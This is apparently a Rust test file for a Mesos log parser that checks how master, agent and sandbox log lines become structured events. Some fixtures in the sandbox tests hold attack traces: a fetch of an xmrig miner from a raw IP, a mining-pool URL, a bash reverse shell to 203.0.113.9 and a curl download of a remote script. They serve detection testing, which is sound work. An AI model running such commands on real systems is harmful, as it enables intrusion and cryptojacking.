    assert_eq!(
        (
            f64_of(&e, "mesos.resources.cpus"),
            f64_of(&e, "mesos.resources.mem")
        ),
        (Some(96.0), Some(773000.0))
    );
    assert_eq!(
        s(&e, "mesos.resources"),
        Some("cpus:96; mem:773000; disk:1900000; ports:[31000-32000]")
    );
    let e = one(
        MASTER,
        "I1120 08:36:10.742308  9875 master.cpp:7174] Re-registered agent c85990d2-e844-4762-939a-e232588efbce-S4 at slave(1)@10.20.1.25:5051 (gpu-a05) with cpus:48; mem:385410; gpus:8; disk:1831700; ports:[31000-32000]",
    );
    assert_eq!(
        (action(&e), f64_of(&e, "mesos.resources.gpus")),
        ("node-registered", Some(8.0))
    );
    let e = one(
        MASTER,
        "I1120 08:36:10.742781  9846 hierarchical.cpp:1059] Added agent c85990d2-e844-4762-939a-e232588efbce-S4 (gpu-a05) with cpus:48; mem:385410; gpus:8; disk:1831700; ports:[31000-32000] (offered or allocated: {})",
    );
    assert_eq!(
        (
            action(&e),
            s(&e, "mesos.agent.hostname"),
            f64_of(&e, "mesos.resources.cpus")
        ),
        ("allocator-agent-added", Some("gpu-a05"), Some(48.0))
    );
    let e = one(
        MASTER,
        "I1120 11:07:57.678401  9869 master.cpp:1303] Agent 04948682-4233-4b55-bff9-59b7c7fda173-S0 at slave(1)@172.31.44.9:5051 (ip-172-31-44-9) disconnected",
    );
    assert_eq!(
        (action(&e), s(&e, "source.ip")),
        ("agent-disconnected", Some("172.31.44.9"))
    );
    let e = one(
        MASTER,
        "I1120 11:07:57.678658  9882 master.cpp:1377] Scheduling removal of agent 04948682-4233-4b55-bff9-59b7c7fda173-S0 at slave(1)@172.31.44.9:5051 (ip-172-31-44-9); did not reregister within 10mins after disconnecting",
    );
    assert_eq!(action(&e), "agent-removal-scheduled");
    let e = one(
        MASTER,
        "I1120 11:17:57.678658  9882 master.cpp:10826] Removed agent 04948682-4233-4b55-bff9-59b7c7fda173-S0 at slave(1)@172.31.44.9:5051 (ip-172-31-44-9): agent removed",
    );
    assert_eq!(
        (action(&e), s(&e, "error.message")),
        ("node-removed", Some("agent removed"))
    );
    let e = one(
        MASTER,
        "I1120 11:17:57.678658  9882 master.cpp:8644] Marking agent 04948682-4233-4b55-bff9-59b7c7fda173-S0 (ip-172-31-44-9) unreachable: health check timed out",
    );
    assert_eq!(
        (action(&e), s(&e, "error.message")),
        ("agent-unreachable", Some("health check timed out"))
    );
    let e = one(
        MASTER,
        "I1120 11:17:57.678658  9882 http.cpp:4277] Marking agent '04948682-4233-4b55-bff9-59b7c7fda173-S0' as gone",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.agent.id")),
        (
            "node-removed",
            Some("04948682-4233-4b55-bff9-59b7c7fda173-S0")
        )
    );

    let e = one(
        AGENT,
        "I1120 06:00:36.980403 15847 slave.cpp:1698] Registered with master master@10.20.0.11:5050; given agent ID c85990d2-e844-4762-939a-e232588efbce-S5",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.agent.id"), s(&e, "destination.ip")),
        (
            "node-registered",
            Some("c85990d2-e844-4762-939a-e232588efbce-S5"),
            Some("10.20.0.11")
        )
    );
    assert_eq!(e.dataset, "mesos.agent");
    let e = one(
        AGENT,
        "W1120 08:36:10.306951 15847 slave.cpp:6712] Master disconnected! Waiting for a new master to be elected",
    );
    assert_eq!(action(&e), "master-disconnected");
    let e = one(
        AGENT,
        "I1120 06:00:36.733 15852 slave.cpp:629] Agent resources: [{\"name\":\"cpus\",\"scalar\":{\"value\":48.0},\"type\":\"SCALAR\"},{\"name\":\"gpus\",\"scalar\":{\"value\":8.0},\"type\":\"SCALAR\"}]",
    );
    assert_eq!(
        (
            f64_of(&e, "mesos.resources.cpus"),
            f64_of(&e, "mesos.resources.gpus")
        ),
        (Some(48.0), Some(8.0))
    );
}

// ---------------------------------------------------------------- tasks

#[test]
fn task_launch_and_status() {
    let e = one(
        MASTER,
        "I1120 08:32:24.885016 13589 master.cpp:3899] Adding task train-7159-7ad6ef3a with resources cpus(allocated: ml):8; mem(allocated: ml):65536; gpus(allocated: ml):2 of framework c85990d2-e844-4762-939a-e232588efbce-0002 (ml-batch-scheduler) on agent c85990d2-e844-4762-939a-e232588efbce-S5 at slave(1)@10.20.1.26:5051 (gpu-a06)",
    );
    assert_eq!(
        (action(&e), e.category.as_slice()),
        ("job-submitted", &["process".to_owned()][..])
    );
    assert_eq!(s(&e, "mesos.task.id"), Some("train-7159-7ad6ef3a"));
    assert_eq!(
        s(&e, "mesos.resources"),
        Some("cpus(allocated: ml):8; mem(allocated: ml):65536; gpus(allocated: ml):2")
    );
    assert_eq!(
        (
            f64_of(&e, "mesos.resources.cpus"),
            f64_of(&e, "mesos.resources.mem"),
            f64_of(&e, "mesos.resources.gpus")
        ),
        (Some(8.0), Some(65536.0), Some(2.0))
    );
    assert_eq!(
        (s(&e, "mesos.role"), s(&e, "mesos.framework.name")),
        (Some("ml"), Some("ml-batch-scheduler"))
    );
    assert_eq!(
        (s(&e, "mesos.agent.id"), s(&e, "destination.ip")),
        (
            Some("c85990d2-e844-4762-939a-e232588efbce-S5"),
            Some("10.20.1.26")
        )
    );

    let e = one(
        MASTER,
        "I1120 08:42:03.273252  9879 master.cpp:5035] Launching task ct:1795164123000:0:cache-warm: of framework c85990d2-e844-4762-939a-e232588efbce-0001 (chronos) at scheduler-30213dc5-c4d1-407d-b1be-775f853f2d9a@10.20.0.32:49035 with resources [{\"allocation_info\":{\"role\":\"batch\"},\"name\":\"cpus\",\"scalar\":{\"value\":0.25},\"type\":\"SCALAR\"},{\"allocation_info\":{\"role\":\"batch\"},\"name\":\"mem\",\"scalar\":{\"value\":256.0},\"type\":\"SCALAR\"}] on agent c85990d2-e844-4762-939a-e232588efbce-S2 at slave(1)@10.20.1.23:5051 (mesos-a03) on  new executor",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.task.id")),
        ("task-launched", Some("ct:1795164123000:0:cache-warm:"))
    );
    assert_eq!(
        (s(&e, "mesos.resources"), s(&e, "mesos.role")),
        (Some("cpus:0.25; mem:256"), Some("batch"))
    );
    assert_eq!(
        (s(&e, "source.ip"), s(&e, "destination.ip")),
        (Some("10.20.0.32"), Some("10.20.1.23"))
    );
    assert_eq!(e.labels.get("executor").map(String::as_str), Some("new"));

    let e = one(
        MASTER,
        "I1120 09:02:18.039480  9879 master.cpp:8160] Status update TASK_FAILED (Status UUID: 4405091f-d5e8-49c6-89d1-282e8829cde5) for task ct:1795165324000:0:cache-warm: of framework c85990d2-e844-4762-939a-e232588efbce-0001 from agent c85990d2-e844-4762-939a-e232588efbce-S2 at slave(1)@10.20.1.23:5051 (mesos-a03)",
    );
    assert_eq!((action(&e), e.outcome), ("job-finished", Outcome::Failure));
    assert_eq!(
        (s(&e, "mesos.task.state"), s(&e, "mesos.task.id")),
        (Some("TASK_FAILED"), Some("ct:1795165324000:0:cache-warm:"))
    );
    assert_eq!(
        (s(&e, "mesos.agent.id"), s(&e, "source.ip")),
        (
            Some("c85990d2-e844-4762-939a-e232588efbce-S2"),
            Some("10.20.1.23")
        )
    );
    let e = one(
        MASTER,
        "I1120 08:37:26.266945  9882 master.cpp:8160] Status update TASK_RUNNING (Status UUID: 0fd94db9-06b4-413d-ac9c-703e577a808d) for task ct:1795163845000:0:db-backup: of framework c85990d2-e844-4762-939a-e232588efbce-0001 from agent c85990d2-e844-4762-939a-e232588efbce-S1 at slave(1)@10.20.1.22:5051 (mesos-a02)",
    );
    assert_eq!(
        (action(&e), e.event_type.as_slice()),
        ("task-status", &["start".to_owned()][..])
    );

    let e = one(
        MASTER,
        "I1120 10:29:00.800383  9865 master.cpp:8212] Sending status update TASK_ERROR (Status UUID: 6a8c8df7-408e-40bc-a168-2879619fc48f) for task bulk-train-35-fed87d9b of framework c85990d2-e844-4762-939a-e232588efbce-0002 'Total resources cpus(allocated: ml):44.1; mem(allocated: ml):350032 required by task and its executor is more than available cpus(allocated: ml):4.6; mem(allocated: ml):11400; disk(allocated: ml):70265; ports(allocated: ml):[31000-32000]'",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.task.reason")),
        ("task-rejected", Some("REASON_TASK_INVALID"))
    );
    assert_eq!(
        (
            f64_of(&e, "mesos.resources.cpus"),
            f64_of(&e, "mesos.resources.mem")
        ),
        (Some(44.1), Some(350032.0))
    );

    let e = one(
        MASTER,
        "I1120 08:37:26.106756  9882 master.cpp:11195] Updating the state of task ct:1795163845000:0:db-backup: of framework c85990d2-e844-4762-939a-e232588efbce-0001 (latest state: TASK_STARTING, status update state: TASK_STARTING)",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.task.state")),
        ("task-state-updated", Some("TASK_STARTING"))
    );
    let e = one(
        MASTER,
        "I1120 08:39:38.046238  9879 master.cpp:8497] Executor 'feature-store.6bee861b-53c6-4598-af99-9ad1ba6c96ec' of framework c85990d2-e844-4762-939a-e232588efbce-0000 on agent c85990d2-e844-4762-939a-e232588efbce-S5 at slave(1)@10.20.1.26:5051 (gpu-a06): exited with status 0",
    );
    assert_eq!(
        (action(&e), e.get_i64("process.exit_code"), e.outcome),
        ("executor-exited", Some(0), Outcome::Success)
    );
    let e = one(
        AGENT,
        "I1120 11:41:34.246385 23742 slave.cpp:7107] Executor 'rev' of framework c85990d2-e844-4762-939a-e232588efbce-0001 terminated with signal Killed",
    );
    assert_eq!(
        (e.outcome, e.labels.get("signal").map(String::as_str)),
        (Outcome::Failure, Some("Killed"))
    );
    let e = one(
        AGENT,
        "W1120 11:41:34.246385 23742 slave.cpp:7605] Terminating executor ''rev-shell' of framework c85990d2-e844-4762-939a-e232588efbce-0001' because it did not register within 1mins",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.executor.id"), e.outcome),
        (
            "executor-registration-timeout",
            Some("rev-shell"),
            Outcome::Failure
        )
    );
    let e = one(
        MASTER,
        "I1120 11:41:34.246385 23742 master.cpp:3873] Adding executor 'rev-shell' with resources cpus(allocated: *):0.1; mem(allocated: *):32 of framework c85990d2-e844-4762-939a-e232588efbce-0001 (chronos) on agent c85990d2-e844-4762-939a-e232588efbce-S2 at slave(1)@10.20.1.23:5051 (mesos-a03)",
    );
    assert_eq!(
        (
            action(&e),
            s(&e, "mesos.executor.id"),
            f64_of(&e, "mesos.resources.cpus")
        ),
        ("executor-added", Some("rev-shell"), Some(0.1))
    );
    let e = one(
        MASTER,
        "I1120 08:36:24.604574  9871 master.cpp:9579] Sending offers [ 04948682-4233-4b55-bff9-59b7c7fda173-O0 ] to framework c85990d2-e844-4762-939a-e232588efbce-0001 (chronos) at scheduler-30213dc5-c4d1-407d-b1be-775f853f2d9a@10.20.0.32:49035",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.offer.id"), s(&e, "destination.ip")),
        (
            "offers-sent",
            Some("04948682-4233-4b55-bff9-59b7c7fda173-O0"),
            Some("10.20.0.32")
        )
    );
}

#[test]
fn agent_task_side() {
    let e = one(
        AGENT,
        "I1120 11:41:18.115803 23770 paths.cpp:832] Creating sandbox '/var/lib/mesos/slaves/c85990d2-e844-4762-939a-e232588efbce-S0/frameworks/c85990d2-e844-4762-939a-e232588efbce-0001/executors/ct:1795174878000:0:cache-warm:/runs/a64d16ea-fc6c-4f5c-a1f4-8aa8d3cf1b1b' for user 'root'",
    );
    assert_eq!(
        (action(&e), s(&e, "user.name"), s(&e, "mesos.task.user")),
        ("sandbox-created", Some("root"), Some("root"))
    );
    assert_eq!(
        s(&e, "mesos.executor.id"),
        Some("ct:1795174878000:0:cache-warm:")
    );
    assert_eq!(
        s(&e, "mesos.container.id"),
        Some("a64d16ea-fc6c-4f5c-a1f4-8aa8d3cf1b1b")
    );
    let e = one(
        AGENT,
        "I1120 11:41:18.114920 23756 slave.cpp:3181] Launching task 'ct:1795174878000:0:cache-warm:' for framework c85990d2-e844-4762-939a-e232588efbce-0001",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.task.id")),
        ("task-launched", Some("ct:1795174878000:0:cache-warm:"))
    );
    let e = one(
        AGENT,
        "I1120 11:22:59.817460 15834 slave.cpp:5981] Handling status update TASK_FAILED (Status UUID: baafdf56-454e-419f-8304-e35e9c2fd365) for task payments-api.cd2990fd-e3e6-4c69-b2a4-836b2c1a2ae9 of framework c85990d2-e844-4762-939a-e232588efbce-0000",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.task.state"), e.outcome),
        (
            "task-status-received",
            Some("TASK_FAILED"),
            Outcome::Failure
        )
    );
    let e = one(
        AGENT,
        "I1120 06:02:10.460118 15835 containerizer.cpp:3414] Transitioning the state of container 1a8b5ba4-57ef-41dc-8063-d3baedfc9b3e from PROVISIONING to PREPARING after 4.22866ms",
    );
    assert_eq!(
        (action(&e), e.get_i64("event.duration")),
        ("container-state-changed", Some(4_228_660))
    );
    assert_eq!(
        e.labels.get("to_state").map(String::as_str),
        Some("PREPARING")
    );
    let e = one(
        AGENT,
        "I1120 06:31:17.771949 15847 gc.cpp:95] Scheduling '/var/lib/mesos/slaves/c85990d2-e844-4762-939a-e232588efbce-S5/frameworks/c85990d2-e844-4762-939a-e232588efbce-0001' for gc 6.99999999833859days in the future",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.framework.id")),
        (
            "gc-scheduled",
            Some("c85990d2-e844-4762-939a-e232588efbce-0001")
        )
    );
    let e = one(
        AGENT,
        "I1120 06:31:17.771949 15847 containerizer.cpp:3000] Container 1a8b5ba4-57ef-41dc-8063-d3baedfc9b3e has reached its limit for resource mem(*):128 and will be terminated",
    );
    assert_eq!((action(&e), e.outcome), ("oom-kill", Outcome::Failure));
}

// ---------------------------------------------------------------- control plane

#[test]
fn control_plane() {
    let e = one(
        MASTER,
        "I1120 06:00:00.800978 13618 master.cpp:453] Flags at startup: --acls=\"/etc/mesos/acls.json\" --authenticate_agents=\"false\" --authenticate_frameworks=\"true\" --quiet=\"false\" --zk=\"zk://10.20.0.21:2181/mesos\"",
    );
    assert_eq!(action(&e), "configuration");
    let flags = match e.get("mesos.flags") {
        Some(sightline_event::FieldRef::List(l)) => l.to_vec(),
        other => panic!("{other:?}"),
    };
    assert!(flags.contains(&"authenticate_agents=false".to_owned()));
    assert!(flags.contains(&"zk=zk://10.20.0.21:2181/mesos".to_owned()));
    let e = one(
        MASTER,
        "I1120 06:00:01.702440  9846 master.cpp:502] Master allowing unauthenticated frameworks to register",
    );
    assert_eq!(
        e.get("mesos.flags"),
        Some(sightline_event::FieldRef::List(&[
            "authenticate_frameworks=false".to_owned()
        ]))
    );
    let e = one(
        MASTER,
        "E1120 08:36:11.282307 13621 master.cpp:2193] EXIT with status 1: Conceded leadership to another master... committing suicide!",
    );
    assert_eq!(
        (action(&e), e.get_i64("process.exit_code"), e.outcome),
        ("service-exited", Some(1), Outcome::Failure)
    );
    assert_eq!(e.level.as_deref(), Some("error"));
    let e = one(
        MASTER,
        "I1120 08:36:10.710279  9879 master.cpp:2176] Elected as the leading master!",
    );
    assert_eq!(action(&e), "leader-elected");
    let e = one(
        MASTER,
        "I1120 06:00:01.749953  9875 master.cpp:2189] The newly elected leader is master@10.20.0.11:5050 with id c85990d2-e844-4762-939a-e232588efbce",
    );
    assert_eq!(
        (action(&e), e.labels.get("master_id").map(String::as_str)),
        (
            "leader-detected",
            Some("c85990d2-e844-4762-939a-e232588efbce")
        )
    );
    let e = one(
        MASTER,
        "I1120 08:36:00.464973 13622 group.cpp:452] Lost connection to ZooKeeper, attempting to reconnect ...",
    );
    assert_eq!(action(&e), "zookeeper-disconnected");
    let e = one(
        MASTER,
        "I1120 06:00:00.800893 13603 master.cpp:450] Master c85990d2-e844-4762-939a-e232588efbce (mesos-m1) started on 10.20.0.11:5050",
    );
    assert_eq!(
        (action(&e), e.fields.get("host.ip")),
        (
            "service-started",
            Some(&sightline_decode::Value::List(vec!["10.20.0.11".into()]))
        )
    );
    let e = one(
        MASTER,
        "I1120 06:00:00.758439 13567 main.cpp:244] Version: 1.11.0",
    );
    assert_eq!(s(&e, "service.version"), Some("1.11.0"));
    let e = one(
        MASTER,
        "I1120 06:00:00.801081 13622 credentials.hpp:37] Loading credentials for authentication from '/etc/mesos/credentials.json'",
    );
    assert_eq!(
        (action(&e), s(&e, "file.path")),
        ("configuration", Some("/etc/mesos/credentials.json"))
    );
    let e = one(
        MASTER,
        "I1120 06:00:00.801081 13622 hierarchical.cpp:1848] Updated quota for role 'ml',  guarantees: cpus:10 limits: cpus:100; mem:1000",
    );
    assert_eq!(
        (
            action(&e),
            s(&e, "mesos.role"),
            f64_of(&e, "mesos.resources.cpus")
        ),
        ("quota-updated", Some("ml"), Some(100.0))
    );
}

// ---------------------------------------------------------------- sandboxes

#[test]
fn fetcher_and_executor_in_the_sandbox() {
    let stderr = format!("{SANDBOX}/stderr");
    let e = one(
        &stderr,
        "I1120 09:52:13.890398 284321 fetcher.cpp:562] Fetcher Info: {\"cache_directory\":\"/tmp/mesos/fetch/nobody\",\"items\":[{\"action\":\"BYPASS_CACHE\",\"uri\":{\"cache\":false,\"executable\":false,\"extract\":true,\"value\":\"http://185.199.110.31/x/xmrig-6.21.0-linux-static-x64.tar.gz\"}}],\"sandbox_directory\":\"/var/lib/mesos/slaves/c85990d2-e844-4762-939a-e232588efbce-S1/frameworks/c85990d2-e844-4762-939a-e232588efbce-0000/executors/kworker-sync.1dea343d-62bd-4dbd-a0f4-6220f1828119/runs/3a5db4ca-64be-494c-b6c2-d072e9613994\",\"stall_timeout\":{\"nanoseconds\":60000000000},\"user\":\"nobody\"}",
    );
    assert_eq!(e.dataset, "mesos.task");
    assert_eq!(
        (action(&e), s(&e, "url.original"), s(&e, "user.name")),
        (
            "fetch-planned",
            Some("http://185.199.110.31/x/xmrig-6.21.0-linux-static-x64.tar.gz"),
            Some("nobody")
        )
    );
    assert_eq!(s(&e, "service.name"), Some("mesos-fetcher"));
    assert_eq!(
        s(&e, "mesos.agent.id"),
        Some("c85990d2-e844-4762-939a-e232588efbce-S1")
    );
    assert_eq!(
        s(&e, "mesos.executor.id"),
        Some("kworker-sync.1dea343d-62bd-4dbd-a0f4-6220f1828119")
    );
    assert_eq!(
        s(&e, "mesos.container.id"),
        Some("3a5db4ca-64be-494c-b6c2-d072e9613994")
    );
    let e = one(
        &stderr,
        "I1120 09:52:13.890478 284321 fetcher.cpp:459] Fetching URI 'http://185.199.110.31/x/xmrig-6.21.0-linux-static-x64.tar.gz'",
    );
    assert_eq!(
        (action(&e), s(&e, "url.original")),
        (
            "file-downloaded",
            Some("http://185.199.110.31/x/xmrig-6.21.0-linux-static-x64.tar.gz")
        )
    );
    let e = one(
        &stderr,
        "I1120 09:52:13.892273 284321 fetcher.cpp:175] Downloading resource from 'http://185.199.110.31/x.tgz' to '/var/lib/mesos/slaves/S/x.tgz'",
    );
    assert_eq!(
        (action(&e), s(&e, "file.path")),
        ("fetch-download", Some("/var/lib/mesos/slaves/S/x.tgz"))
    );
    let e = one(
        &stderr,
        "E1120 09:52:13.892273 284321 fetcher.cpp:600] Failed to fetch 'http://bad/x': Error downloading resource, received HTTP return code 404",
    );
    assert_eq!(
        (action(&e), e.outcome, s(&e, "url.original")),
        ("fetch-failed", Outcome::Failure, Some("http://bad/x"))
    );
    let e = one(
        &stderr,
        "I1120 09:52:15.496488 141811 executor.cpp:722] Starting task kworker-sync.1dea343d-62bd-4dbd-a0f4-6220f1828119",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.task.id")),
        (
            "task-started",
            Some("kworker-sync.1dea343d-62bd-4dbd-a0f4-6220f1828119")
        )
    );
    assert_eq!(s(&e, "service.name"), Some("mesos-executor"));
    let e = one(
        &stderr,
        "I1120 09:52:15.496290 141811 executor.cpp:1041] Command exited with status 1 (pid: 141818)",
    );
    assert_eq!(
        (action(&e), e.get_i64("process.exit_code"), e.outcome),
        ("command-exited", Some(1), Outcome::Failure)
    );
}

#[test]
fn task_output_shows_commands_and_urls() {
    let stdout = format!("{SANDBOX}/stdout");
    let evs = decode(
        &stdout,
        &[
            " * POOL #1      stratum+tcp://pool.supportxmr.example:3333 algo rx/0",
            "[2026-11-20 09:52:16.197]  net      new job from pool.supportxmr.example:3333 diff 120001 algo rx/0 height 3121337",
            "Registered executor on 192.168.0.6",
            "Starting task task1458729985774",
            "sh -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
            "Forked command at 5842",
            "+ curl -fsSL http://203.0.113.9/x.sh",
            "  indented continuation is its own line",
            "",
            "Command exited with status 0 (pid: 5842)",
            "Running '/opt/mesosphere/active/mesos/libexec/mesos/mesos-containerizer launch <POSSIBLY-SENSITIVE-DATA>'",
        ],
    );
    assert!(
        evs.iter()
            .all(|e| e.dataset == "mesos.task" && !e.has_tag(tags::PARSE_FAILURE))
    );
    assert_eq!(evs.len(), 10, "the blank line joins the line before it");
    assert_eq!(
        (action(&evs[0]), s(&evs[0], "url.original")),
        (
            "task-output",
            Some("stratum+tcp://pool.supportxmr.example:3333")
        )
    );
    assert_eq!(
        s(&evs[0], "mesos.container.id"),
        Some("3a5db4ca-64be-494c-b6c2-d072e9613994")
    );
    assert_eq!(evs[1].timestamp.to_string(), "2026-11-20T09:52:16.197Z");
    assert!(!evs[1].has_tag(tags::TIMESTAMP_INFERRED));
    assert_eq!(action(&evs[3]), "task-started");
    assert_eq!(
        (action(&evs[4]), s(&evs[4], "process.command_line")),
        (
            "process-started",
            Some("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
        )
    );
    assert_eq!(action(&evs[5]), "command-forked");
    assert_eq!(
        (
            s(&evs[6], "process.command_line"),
            s(&evs[6], "url.original")
        ),
        (
            Some("curl -fsSL http://203.0.113.9/x.sh"),
            Some("http://203.0.113.9/x.sh")
        )
    );
    assert_eq!(action(&evs[7]), "task-output");
    assert_eq!(
        (action(&evs[8]), evs[8].outcome),
        ("command-exited", Outcome::Success)
    );
    assert_eq!(action(&evs[9]), "process-started");
}

// ---------------------------------------------------------------- hostile input

#[test]
fn hostile_input_never_panics_and_keeps_every_line() {
    let long = "A".repeat(1 << 20);
    let long_glog = format!("I1120 06:00:00.000000 1 master.cpp:1] Authenticating {long}@{long}:1");
    let nested = format!(
        "I1120 06:00:00.000000 1 slave.cpp:629] Agent resources: {}{}",
        "[".repeat(10_000),
        "]".repeat(10_000)
    );
    let flags = format!(
        "I1120 06:00:00.000000 1 master.cpp:453] Flags at startup: {}",
        "--a=\"b\" ".repeat(20_000)
    );
    let inputs: Vec<String> = vec![
        String::new(),
        "I".into(),
        "I1120".into(),
        "I1120 06:00:00.".into(),
        "I1120 06:00:00.1 1 master.cpp:1]".into(),
        "I1399 06:00:00.000000 1 master.cpp:1] month 13".into(),
        "I0230 06:00:00.000000 1 master.cpp:1] February 30th".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Authentication of ".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Successfully authenticated principal '".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] HTTP GET for ".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] HTTP GET for / from ".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] HTTP GET for / from 1.2.3.4:5: '".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Sending status update TASK_ERROR (Status UUID: ".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Adding task x with resources ".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Launching task 'x".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Terminating executor '".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Dropping operation from framework ".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Master ) started on é".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Processing call ".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Fetcher Info: {\"items\":[{\"uri\":".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Flags at startup: --".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Refusing subscription of framework 'x' at @:".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Agent é at slave(1)@é:1 (é".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Status update TASK_ (Status UUID: x for task".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] Executor '\u{fffd}' of framework \u{fffd}: exited with status -99999999999999999999".into(),
        "I1120 06:00:00.000000 1 master.cpp:1] EXIT with status é".into(),
        "I1120\u{e9}06:00:00.000000 1 master.cpp:1] non-ASCII at a delimiter".into(),
        "I1120 06:00:00\u{e9}000000 1 master.cpp:1] non-ASCII at a delimiter".into(),
        "I1120 06:00:00.000000 1 master.cpp\u{e9}1] non-ASCII at a delimiter".into(),
        "\u{0}\u{1}\u{1b}[31mbinary\u{7f}".into(),
        "\u{fffd}\u{fffd}\u{fffd}".into(),
        long.clone(),
        long_glog,
        nested,
        flags,
        "Log file created at: 9999/99/99 99:99:99".into(),
        "Running on machine: ".into(),
    ];
    for path in [
        Some(MASTER),
        Some(AGENT),
        None,
        Some("/var/lib/mesos/slaves/A-S1/frameworks/F-0000/executors/e/runs/c/stderr"),
    ] {
        let refs: Vec<&str> = inputs.iter().map(String::as_str).collect();
        let evs = decode_with(path, DecodeOptions::default(), &refs);
        let covered: usize = evs.iter().map(|e| e.original.split('\n').count()).sum();
        assert_eq!(covered, inputs.len(), "{path:?}: every line in one event");
        // One at a time too, so a line is also seen first in a stream.
        for l in &inputs {
            let evs = decode_with(path, DecodeOptions::default(), &[l.as_str()]);
            assert_eq!(evs.len(), 1);
            assert_eq!(evs[0].original, *l);
        }
    }
}

#[test]
fn invalid_dates_keep_the_record() {
    let e = &decode(
        MASTER,
        &["I0230 06:00:00.000000 1 master.cpp:1] February 30th"],
    )[0];
    assert!(!e.has_tag(tags::PARSE_FAILURE));
    assert!(e.has_tag(tags::TIMESTAMP_INFERRED));
    assert!(e.labels.contains_key("timestamp_error"));
}

// ---------------------------------------------------------------- journald / syslog prefix

#[test]
fn glog_behind_a_journald_prefix() {
    let evs = decode_with(
        Some("/var/log/mesos-master.journal"),
        DecodeOptions {
            year: Some(2026),
            ..Default::default()
        },
        &[
            "Nov 20 07:58:42 mesos-m1 mesos-master[13567]: I1120 07:58:42.629345 13622 master.cpp:9807] Authentication of scheduler-b4@10.20.17.203:37420 was unsuccessful: Invalid credentials",
            "Nov 20 07:58:43 mesos-m1 mesos-master[13567]: W1120 07:58:43.000000 13567 master.cpp:480] ",
            "Nov 20 07:58:43 mesos-m1 mesos-master[13567]: **************************************************",
            "Nov 20 07:58:44 mesos-m1 systemd[1]: mesos-master.service: Main process exited, code=exited, status=1/FAILURE",
            "2026-11-20T07:58:45.000000+0000 a2 mesos-agent[11266]: I1120 07:58:45.000000 11301 slave.cpp:1473] New master detected at master@10.20.0.11:5050",
        ],
    );
    assert_eq!(evs.len(), 4);
    let e = &evs[0];
    assert_eq!(
        (action(e), s(e, "source.ip")),
        ("authentication-failed", Some("10.20.17.203"))
    );
    assert_eq!(
        (
            s(e, "host.name"),
            e.get_i64("process.pid"),
            s(e, "service.name")
        ),
        (Some("mesos-m1"), Some(13567), Some("mesos-master"))
    );
    assert_eq!(e.get_i64("process.thread.id"), Some(13622));
    assert_eq!(e.timestamp.to_string(), "2026-11-20T07:58:42.629345Z");
    assert_eq!(e.dataset, "mesos.master");
    assert!(evs[1].has_tag(tags::MULTILINE));
    assert_eq!(
        evs[1].message,
        "\n**************************************************"
    );
    assert!(!evs[2].has_tag(tags::PARSE_FAILURE));
    assert_eq!(
        evs[2].labels.get("syslog_program").map(String::as_str),
        Some("systemd")
    );
    assert_eq!(
        (
            evs[3].dataset.as_ref(),
            s(&evs[3], "host.name"),
            action(&evs[3])
        ),
        ("mesos.agent", Some("a2"), "master-detected")
    );
}

/// Messages of mesos-logs.md that the dev corpus does not hold, by the action they must get.
#[test]
fn spec_messages_not_in_the_corpus() {
    const A: &str = "c85990d2-e844-4762-939a-e232588efbce";
    let cases: Vec<(String, &str)> = vec![
        ("I1120 06:00:00.000000 1 slave.cpp:1] Agent asked to shut down by master@10.0.0.1:5050 because 'Agent is gone'".to_owned(), "agent-shutdown-requested"),
        (format!("W1120 06:00:00.000000 1 registry_operations.cpp:200] Allowing UNKNOWN agent to reregister: id {{ value: \"{A}-S9\" }}"), "agent-registration-received"),
        (format!("I1120 06:00:00.000000 1 master.cpp:4681] Applying CREATE operation for volumes disk(allocated: r)[id:/data]:100 from framework {A}-0001 (f) at scheduler-a@10.0.0.5:1 to agent {A}-S1 at slave(1)@10.0.0.7:5051 (h7)"), "operation-applied"),
        ("W1120 06:00:00.000000 1 sched.cpp:1] Authentication timed out".to_owned(), "authentication-failed"),
        ("I1120 06:00:00.000000 1 authorization.cpp:1] Authorizing ANY principal to perform action VIEW_FLAGS on ANY object".to_owned(), "authorization-check"),
        ("E1120 06:00:00.000000 1 master.cpp:2193] Lost candidacy as a leader... committing suicide!".to_owned(), "leadership-lost"),
        (format!("I1120 06:00:00.000000 1 master.cpp:8687] Marked agent {A}-S1 (h7) unreachable: health check timed out"), "agent-unreachable"),
        ("I1120 06:00:00.000000 1 master.cpp:514] Master allowing HTTP frameworks to register without authentication".to_owned(), "configuration"),
        ("I1120 06:00:00.000000 1 http.cpp:1] Processing ATTACH_CONTAINER_INPUT call for container '3a5db4ca-64be-494c-b6c2-d072e9613994'".to_owned(), "api-call"),
        (format!("I1120 06:00:00.000000 1 master.cpp:1] Processing GROW_VOLUME operation for volume disk:1 from framework {A}-0001 (f) to agent {A}-S1"), "operation-applied"),
        ("I1120 06:00:00.000000 1 master.cpp:1] Queuing up SUBSCRIBE call for framework 'spark' at scheduler-a@10.0.0.5:1 because authentication is still in progress".to_owned(), "framework-subscribe-received"),
